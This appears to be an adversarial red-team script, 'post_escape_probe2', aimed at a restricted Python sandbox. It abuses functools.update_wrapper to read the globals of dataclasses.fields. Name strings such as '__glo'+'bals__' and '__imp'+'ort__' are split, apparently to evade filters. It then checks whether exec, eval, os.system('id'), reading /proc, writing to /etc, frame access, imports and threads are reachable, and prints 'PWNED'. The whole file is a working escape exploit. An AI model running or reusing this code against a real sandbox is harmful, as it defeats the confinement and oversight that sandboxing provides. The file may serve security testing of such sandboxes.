# adversary round 2: 007_post_escape_probe2
import functools,dataclasses
box=[]
class S:
    def __setattr__(s, k, v): box.append(v)
def get(o, n):
    box.clear(); functools.update_wrapper(S(), o, (n,), ()); return box[0]
g = get(dataclasses.fields, '__glo'+'bals__')
sy=g['sys']; b=g['builtins']; mods=sy.modules
def t(label, f):
    try:
        r=f(); print(label, "OK", repr(r)[:150])
    except BaseException as e:
        print(label, "ERR", type(e).__name__, str(e)[:150])
t("exec", lambda: b.exec("print('from exec')"))
t("eval", lambda: b.eval("1+1"))
t("compile", lambda: b.compile("1","x","eval"))
t("proc", lambda: open("/proc/self/status").read()[:50])
t("os.system", lambda: mods['os'].system("id"))
t("getframe", lambda: get(sy, '_get'+'frame')(0))
t("gc in modules", lambda: mods.get('gc'))
t("import gc", lambda: get(b, '__imp'+'ort__')('gc'))
t("thread", lambda: mods['_thread'].start_new_thread(print,("x",)))
t("write /etc", lambda: open("/etc/x","w"))
t("listdir", lambda: mods['os'].listdir('/'))
t("posix", lambda: mods['posix'])
print("PWN"+"ED")
